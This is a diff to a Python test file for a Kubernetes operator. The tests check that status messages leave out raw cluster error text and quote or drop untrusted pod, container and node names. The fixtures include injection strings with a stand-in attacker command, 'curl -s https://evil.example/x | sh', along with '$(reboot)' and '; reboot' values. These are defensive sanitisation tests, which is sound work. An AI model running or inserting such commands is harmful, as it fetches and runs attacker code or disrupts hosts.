@@ -2,17 +2,21 @@
 
 from __future__ import annotations
 
+import asyncio
 import json
 from collections.abc import Callable
 
 import pytest
 
+from modelplane_operator.api.labels import POOL
 from modelplane_operator.kube.cluster_words import meaning, refused, worded
-from modelplane_operator.kube.errors import ClientError, Defect, Forbidden, Invalid, Unreachable
+from modelplane_operator.kube.conditions import condition
+from modelplane_operator.kube.errors import ClientError, Defect, Forbidden, Invalid, KubeconfigError, Unreachable
 from modelplane_operator.kube.objects import Manifest
-from modelplane_operator.planning.hydration import trouble
+from modelplane_operator.planning.hydration import cut_claim, cut_job, trouble
+from modelplane_operator.planning.nodes import Unfit, why_not_ready
 from modelplane_operator.planning.plan import Apply, Failure
-from modelplane_operator.planning.symptoms import refusal, symptoms, told, unfinished, unrouted
+from modelplane_operator.planning.symptoms import cut_pod, refusal, symptoms, told, unfinished, unrouted
 from modelplane_operator.runtime import strands
 
 CANARY = "10.9.8.7 team=red accounts/of-the-platform"
@@ -76,6 +80,12 @@ FROM_STEP: Manifest = {"apiVersion": "v1", "kind": "ConfigMap", "metadata": {"na
         lambda: trouble([failed(message=CANARY, exitCode=137)]),
         lambda: strands.told([Failure(Apply(FROM_STEP, "berlin"), Invalid(CANARY))], to_tenants=True),
         lambda: strands.told([Failure(Apply(FROM_STEP, "berlin"), Unreachable(CANARY))], to_tenants=True),
+        lambda: strands.told([Failure(None, Forbidden(CANARY))], to_tenants=True),
+        lambda: refused(KubeconfigError(CANARY)),
+        lambda: why_not_ready({"status": {"conditions": [{"type": "Ready", "status": "False", "reason": CANARY}]}}),
+        lambda: why_not_ready(
+            {"status": {"conditions": [{"type": "Ready", "status": "False", "lastTransitionTime": CANARY}]}}
+        ),
     ],
 )
 def test_a_status_has_a_reason_and_not_the_message(say: Callable[[], str]) -> None:
@@ -83,6 +93,66 @@ def test_a_status_has_a_reason_and_not_the_message(say: Callable[[], str]) -> No
 
     assert words
     assert not {word for word in CANARY.split() if word in words}, words
+
+
+EVIL = "engine; taint team=acme-corp:NoSchedule; curl -s https://evil.example/x | sh #"
+MOMENT = "2026-01-01T00:00:00Z"
+
+
+def running(name: str = "a", container: str = "engine", path: str = "/health", **at: str) -> Manifest:
+    """Return a pod whose container runs and does not answer."""
+    moment = {"startedAt": MOMENT, "lastTransitionTime": MOMENT, **at}
+    probe = {"readinessProbe": {"httpGet": {"path": path, "port": at.get("port", 8000)}}}
+    state = {"running": {"startedAt": moment["startedAt"]}}
+    ready = {"type": "Ready", "status": "False", "lastTransitionTime": moment["lastTransitionTime"]}
+    return {
+        "metadata": {"name": name, "namespace": "n", "uid": "u", "resourceVersion": "1"},
+        "spec": {"containers": [{"name": container, **probe}], "nodeName": at.get("node", "m")},
+        "status": {
+            "conditions": [ready],
+            "containerStatuses": [{"name": container, "state": state, "ready": at.get("answers") == "yes"}],
+        },
+    }
+
+
+@pytest.mark.parametrize(
+    ("pod", "words"),
+    [
+        (running(), f"pod a engine: no answer on port 8000 at /health since {MOMENT}; LOG"),
+        (running(container=EVIL), "pod a is starting"),
+        (running(startedAt=EVIL), "pod a is starting"),
+        (running(path=f"/x; {EVIL}"), f"pod a engine: no answer on port 8000 since {MOMENT}; LOG"),
+        (running(path="/$(reboot)"), f"pod a engine: no answer on port 8000 since {MOMENT}; LOG"),
+        (running(port=EVIL), f"pod a engine: not ready since {MOMENT}; LOG"),
+        (running(port="http"), f"pod a engine: no answer on port http at /health since {MOMENT}; LOG"),
+        (running(lastTransitionTime=EVIL, answers="yes"), "pod a is not ready, though its containers are"),
+    ],
+)
+def test_what_is_shown_as_it_came_is_what_kubernetes_allows_there(pod: Manifest, words: str) -> None:
+    log = "its log says more: kubectl logs -n n a -c engine"
+    assert told(symptoms([cut_pod(pod)])) == words.replace("LOG", log)
+
+
+def test_an_object_whose_name_is_none_is_kept_by_no_informer() -> None:
+    bad = running(name="p; curl evil|sh #")
+    assert not [one for one in (cut_pod, cut_job, cut_claim) if "name" in one(bad)["metadata"]]
+
+
+def test_a_condition_says_nothing_where_it_has_no_text() -> None:
+    deep = json.loads("[" * 900 + "]" * 900)
+    fields = dict.fromkeys(("status", "reason", "message", "lastTransitionTime"), [[[[deep]]]] * 2)
+    assert condition({"status": {"conditions": [{"type": "Ready", **fields}]}}, "Ready").why == ""
+
+
+def test_a_command_is_one_whatever_its_names_are() -> None:
+    (said,) = symptoms([running(name="p; reboot", container="$(reboot)")])
+    assert str(said).endswith("kubectl logs -n n 'p; reboot' -c '$(reboot)'")
+
+
+def test_a_node_whose_name_is_none_is_not_named() -> None:
+    ready = {"type": "Ready", "status": "False"}
+    node = {"metadata": {"name": EVIL, "labels": {POOL: "p"}}, "status": {"conditions": [ready]}}
+    assert Unfit((node,)).kept_from({"spec": {"nodeSelector": {POOL: "p"}}}) == ""
 
 
 def test_what_the_platform_team_reads_has_the_clusters_words() -> None:
@@ -134,6 +204,13 @@ def test_a_reason_is_one_word() -> None:
 )
 def test_an_error_says_what_it_is(error: ClientError, words: str) -> None:
     assert refused(error) == words
+
+
+async def test_that_a_cluster_is_slow_is_told_in_words_of_ours() -> None:
+    with pytest.raises(Unreachable) as raised:
+        async with strands.ended_by(0):
+            await asyncio.Event().wait()
+    assert strands.told([Failure(None, raised.value)], to_tenants=True) == strands.SLOW
 
 
 def test_words_cost_no_more_than_they_are_read() -> None:
